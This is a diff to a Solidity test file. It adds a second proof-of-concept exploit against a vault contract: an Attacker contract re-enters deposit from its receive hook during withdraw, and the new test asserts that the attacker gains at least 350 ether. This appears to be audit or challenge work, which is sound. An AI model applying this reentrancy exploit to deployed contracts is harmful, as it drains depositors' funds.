@@ -200,7 +200,7 @@ contract Proof {
         vm.deal(address(nested), 2 ether);
         vault.transferOwnership(address(nested));
         nested.run();
-        require(nested.refused() == 8, "locked");
+        require(nested.refused() == 7, "locked");
     }
 
     function exploit() public {
@@ -211,6 +211,15 @@ contract Proof {
         require(equityOfAna() == 40 ether, "at first");
         exploit();
         require(equityOfAna() == 0, "nothing lost");
+    }
+
+    function exploit2() public {
+        mallory.twice();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(address(mallory).balance >= 350 ether, "nothing gained");
     }
 
     function target() public view returns (address) {
@@ -245,7 +254,6 @@ contract Nested {
     receive() external payable {
         if (tried) return;
         tried = true;
-        tryCall(abi.encodeWithSelector(vault.deposit.selector), 0.1 ether, "!lock");
         tryCall(abi.encodeWithSelector(vault.withdraw.selector, 0.1 ether), 0, "!lock");
         tryCall(abi.encodeWithSelector(vault.setStrategy.selector, address(this)), 0, "!lock");
         tryCall(abi.encodeWithSelector(vault.invest.selector, 1), 0, "!lock");
@@ -261,6 +269,7 @@ contract Attacker {
     ShareLoans private loans;
     IERC20 private usd;
     address private victim = address(0xA9A);
+    uint256 private mode;
 
     constructor(MillVault v, ShareLoans l, IERC20 u) {
         vault = v;
@@ -269,12 +278,22 @@ contract Attacker {
     }
 
     function run() external {
+        mode = 1;
         usd.approve(address(loans), 60_000e18);
         uint256 shares = vault.deposit{value: 300 ether}();
         vault.withdraw(shares);
     }
 
+    function twice() external {
+        mode = 2;
+        vault.withdraw(vault.deposit{value: 300 ether}());
+        vault.withdraw(vault.maxShares(address(this)));
+    }
+
     receive() external payable {
-        loans.call(victim);
+        uint256 step = mode;
+        mode = 0;
+        if (step == 1) loans.call(victim);
+        if (step == 2) vault.deposit{value: 300 ether}();
     }
 }
